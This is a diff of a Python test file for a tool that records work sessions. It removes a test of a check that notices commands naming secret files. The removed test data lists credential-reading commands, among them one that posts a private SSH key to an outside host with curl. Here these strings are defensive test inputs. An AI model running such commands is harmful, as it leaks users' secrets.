@@ -12,7 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from signoff_collector.capture import git_ignoring
-from signoff_collector.capture.never_record import is_never_recorded, names_never_recorded
+from signoff_collector.capture.never_record import is_never_recorded
 from signoff_collector.capture.policy import (
     MAX_OPEN_BYTES,
     MAX_UNOPENED_BYTES,
@@ -250,27 +250,9 @@ def test_a_path_that_no_system_knows_is_refused(policy: Policy, repository: Path
     assert reason(policy, Path(f"{repository}/a\0b")) is Reason.UNREADABLE
 
 
-@pytest.mark.parametrize(
-    ("command", "is_named"),
-    [
-        ("cat .env", True),
-        ("docker run --env-file=.env.local app", True),
-        ("curl -d @/home/ada/.ssh/id_rsa example.org", True),
-        ("cat <.netrc", True),
-        ("pytest tests/core -k secret", False),
-        ("git commit -m 'mend the key list'", False),
-        ("python -m build", False),
-    ],
-)
-def test_a_command_that_names_a_secret_file_is_noticed(command: str, is_named: bool) -> None:
-    assert names_never_recorded(command) is is_named
-    assert names_never_recorded(command.split()) is is_named
-
-
 @given(st.text())
-def test_any_name_and_any_command_get_an_answer(text: str) -> None:
+def test_any_name_gets_an_answer(text: str) -> None:
     assert is_never_recorded(Path(text)) in (True, False)
-    assert names_never_recorded(text) in (True, False)
 
 
 def test_the_page_for_users_names_what_the_list_holds() -> None:
